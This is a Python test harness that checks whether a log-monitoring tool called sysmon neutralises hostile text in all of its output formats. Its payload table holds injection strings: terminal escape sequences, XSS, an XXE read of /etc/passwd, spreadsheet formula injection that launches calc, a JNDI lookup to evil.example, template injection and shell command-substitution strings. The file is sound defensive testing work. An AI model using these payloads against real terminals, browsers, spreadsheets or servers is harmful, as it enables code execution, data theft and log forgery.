# SPDX-License-Identifier: MIT
"""hostile.py SYSMON [SOURCE]...: text that means something to a terminal, a browser, a spreadsheet, a
parser or a shell, from every place that text comes from, into every format. Nothing of it
may work there, and where a format can say so, its reader gets the bytes back."""
import contextlib
import os
import shutil
import socket
import subprocess
import sys
import threading

import hostile_readers as readers
import hostile_sources as sources

# Class: what its texts do where they are believed.
CLASSES = {
    "C0 controls": [bytes(c for c in range(1, 32) if c != 10)],
    "NUL": [b"a\0b", b"\0"],
    "DEL": [b"\x7fa\x7f"],
    "C1 bytes": [bytes(range(0x80, 0xa0)), b"\x9b31mred"],
    "C1 characters": ["".join(map(chr, range(0x80, 0xa0))).encode(), "\x9b2J".encode()],
    "CSI sequences": [b"\x1b[2J\x1b[1;1H\x1b[31;1mred\x1b[0m", b"\x1b[?1049h\x1b[6n"],
    "OSC and DCS": [b"\x1b]0;owned\x07", b"\x1b]8;;http://evil.example/\x1b\\x\x1b]8;;\x1b\\",
                    b"\x1b]52;c;ZXZpbA==\x07", b"\x1bP$q\"p\x1b\\", b"\x1b_Gf=24\x1b\\\x07"],
    "overwriting": [b"bad\rgood   ", b"\rgood"],
    "overstriking": [b"b\x08\x08 \x08a_\x08a"],
    "bidirectional": ["\u202eexe.txt\u202c \u2066a\u2069 \u200e\u200f\u061c \u202a\u202b\u202d\u2067\u2068".encode()],
    "zero width": ["a\u200bb\u200c\u200d\u2060\u00ad\u034f\u115f\u3164\uffa0\u17b4\u180eb".encode()],
    "separators": ["\ufeffa\u2028b\u2029c\u0085d\u000be\u000cf".encode()],
    "tags": ["a\U000e0001\U000e0069\U000e0067\U000e007f".encode()],
    "variation selectors": ["a\ufe00\ufe0f\U000e0100\U000e01ef\u180b".encode()],
    "combining flood": ["e".encode() + "\u0301\u0489\u20dd".encode() * 60],
    "script": [b"</script><script>alert(1)</script>", b"</style></title><svg onload=alert(1)>",
               b"<img src=x onerror=alert(1)>", b"<iframe srcdoc='<b>'>"],
    "comments": [b"--><b>x</b><!--", b"--!><b>", b"<!--", b"]]><b>x</b><![CDATA["],
    "declarations": [b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
                     b"<?php phpinfo() ?>"],
    "references": [b"&#x1b;[31m&#27;&lt;b&gt;&amp;&quot;&nbsp;&e;&#0;"],
    "attributes": [b"\" onload=\"alert(1)\" x=\"", b"' onerror='alert(1)' x='", b"` onx=1 `/>"],
    "links": [b"javascript:alert(1)", b"data:text/html,<b>", b"http://evil.example/", b"www.evil.example",
              b"root@evil.example", b"mailto:a@evil.example xmpp:a@evil.example"],
    "formulas": [b"=cmd|' /C calc'!A0", b"+1+1", b"-2+3", b"@SUM(A1)", b"\t=1", b"\r=1", "\uff1d1+1".encode(),
                 b"'=1", b" =1", b"\"=1", b"|=1", b";=1"],
    "cells": [b"\",\"x\",=1", b"a\"\"b,;\t", b"x\r=1", b"'", b"\""],
    "markdown": [b"|a|b|", b"`c` **b** _i_ ~~s~~ $m$", b"[x](javascript:alert(1)) ![i](http://evil.example/i)",
                 b"# h", b"- l", b"> q", b"1. n", b"<b>x</b> <http://evil.example>", b"[^1] :smile: @all #1", b"\\", b"\\|"],
    "labels": [b"x\"} 1\\nsysmon_findings{severity=\"high\"", b"\\\"} 9", b"a\\"],
    "structured data": [b"\"] <0>1 - evil - - - [a@1 b=\"c\"] ", b"\\]", b"]", b"<0>x"],
    "json": [b"\"},{\"type\":\"finding\",\"severity\":\"critical", b"\\u0000\\ud800\\u001b[31m", b"\\", b"\\x1b\\x5cx1b",
             b"\\u{202e}\\u{1b}", b"\\\""],
    "bad UTF-8": [b"\xc0\xaf\xe0\x80\xaf", b"\xe2\x82", b"\xf0\x9f\x98", b"\xed\xa0\x80\xed\xb0\x80", b"\xf4\x90\x80\x80",
                  b"\xff\xfe", b"a\xc3"],
    "long": [b"A" * (1 << 20), b"x " * 40000, "\u0416".encode() * 40000, b"\n" * 100000, b"a\nb\n\n=1\n<b>"],
    "templates": [b"%n%s%x%999999d", b"${jndi:ldap://evil.example/a}", b"{source_ip}{user}{count}", b"{{7*7}}{%x%}<%=7%>#{7}"],
    "shell": [b"$(touch owned)`touch owned`", b";touch owned|touch owned&&touch owned", b"'\"; touch owned #", b"!! ~root *"],
}
assert len(CLASSES) == 31, len(CLASSES)
TEXTS = [t for texts in CLASSES.values() for t in texts]
FILES = ("r.txt", "r.csv", "r.json", "r.ndjson", "r.html", "r.xml", "r.ecs", "r.md", "r.prom")


class Syslog:
    """A server on a socket in this directory."""

    def __init__(self):
        with contextlib.suppress(FileNotFoundError):
            os.unlink("log")
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.socket.bind("log")
        self.socket.settimeout(0.1)
        self.got, self.over = [], threading.Event()
        self.thread = threading.Thread(target=self.serve)
        self.thread.start()

    def serve(self):
        while True:
            try:
                self.got.append(self.socket.recv(1 << 16))
            except TimeoutError:
                if self.over.is_set():
                    return

    def end(self):
        self.over.set()
        self.thread.join()
        self.socket.close()
        return self.got


class Test:
    def __init__(self, sysmon):
        self.sysmon, self.failures, self.checks = sysmon, 0, 0

    def fail(self, source, sink, what):
        self.failures += 1
        if self.failures <= 20:
            print(f"FAILED: {source} in {sink}: {what[:600]!r}"[:900])

    def check(self, source, sink, fn, *args):
        self.checks += 1
        try:
            return fn(*args)
        except (AssertionError, ValueError, KeyError, SyntaxError) as e:
            self.fail(source, sink, f"{type(e).__name__}: {e}")
        return None

    def run(self, args, **more):
        p = subprocess.run([self.sysmon, *args], stdin=subprocess.DEVNULL, capture_output=True, check=False, **more)
        return p.returncode, p.stdout, p.stderr

    def outputs(self, command, source, syslog, **more):
        """Of one run, by name; what it wrote on both streams is among them."""
        for name in FILES:
            with contextlib.suppress(FileNotFoundError):
                os.unlink(name)
        shutil.rmtree("r.d", ignore_errors=True)
        outs = [a for name in (*FILES, "r.d/", "-") for a in ("-o", name)]
        server = Syslog() if syslog else None
        head, tail = command
        try:
            status, out, err = self.run([*head, *outs, *([f"--syslog=unix:{os.getcwd()}/log"] if syslog else []), *tail], **more)
        finally:
            messages = server.end() if server else []
        if status not in (0, 2, 3) or not os.path.exists("r.txt"):
            sys.exit(f"{source}: status {status}: {err[-600:]}")
        got = {"table": out, "errors": err}
        for name in FILES:
            with open(name, "rb") as f:
                got[name] = f.read()
        for name in os.listdir("r.d"):
            with open("r.d/" + name, "rb") as f:
                got["r.d/" + name] = f.read()
        for form in "table", "txt":
            got[form + " in colour"] = self.run([*head, "--format", form, "--color", "always", *tail], **more)[1]
        for i, m in enumerate(messages):
            got[f"syslog {i}"] = m
        return got

    def inert(self, source, got, plain):
        for sink, data in got.items():
            self.check(source, sink, readers.inert, sink, data)
            if len(data) > 4 * len(got["r.json"]) + (1 << 16):
                self.fail(source, sink, f"{len(data)} bytes, where json has {len(got['r.json'])}")
        for sink in ("r.html", "r.xml", "r.md", "r.prom"):
            self.check(source, sink, readers.READERS[sink], got[sink], plain[sink])
        for sink, data in got.items():
            reader = "csv" if sink.endswith("csv") else "syslog" if sink.startswith("syslog") else sink
            if reader in readers.ALONE:
                self.check(source, sink, readers.ALONE[reader], data)

    def source(self, name, make, kinds, syslog=True):
        """make(texts) is a context that gives a command, as words before and after the outputs, and more
        for the run. kinds: members of json, ndjson, csv and ecs that have to give all texts back."""
        try:
            with make([b"plain"] * len(TEXTS)) as (command, more, _):
                plain = self.outputs(command, name, False, **more)
            with make(TEXTS) as (command, more, want):
                got = self.outputs(command, name, syslog, **more)
        except sources.Missing as e:
            print(f"SKIP: hostile: {name}: {e}")
            return
        self.inert(name, got, plain)
        for section, member, ecs in kinds:
            for sink in ("r.json", "r.ndjson", f"r.d/{section}.csv", "r.csv", "r.ecs"):
                values = self.check(name, sink, readers.values, sink, got[sink], section, member, ecs)
                if values is None:
                    continue
                for text in want:
                    self.checks += 1
                    if text not in values:
                        self.fail(f"{class_of(text)} of {name}", f"{sink}, {member}",
                                  f"{text[:60]} does not come back")


def class_of(text):
    return next((n for n, texts in CLASSES.items() if any(t.startswith(text) or text in t for t in texts)), "text")


def main():
    test = Test(sys.argv[1])
    chosen = sys.argv[2:]
    for name, make, kinds, syslog in sources.SOURCES:
        if chosen and name not in chosen:
            continue
        test.source(name, make, kinds, syslog)
        if os.path.exists("owned"):
            test.fail(name, "a shell", "it ran a command")
    print(f"{len(chosen or sources.SOURCES)} sources, {len(CLASSES)} classes, {len(TEXTS)} texts: {test.checks} checks")
    sys.exit(test.failures > 0)


main()
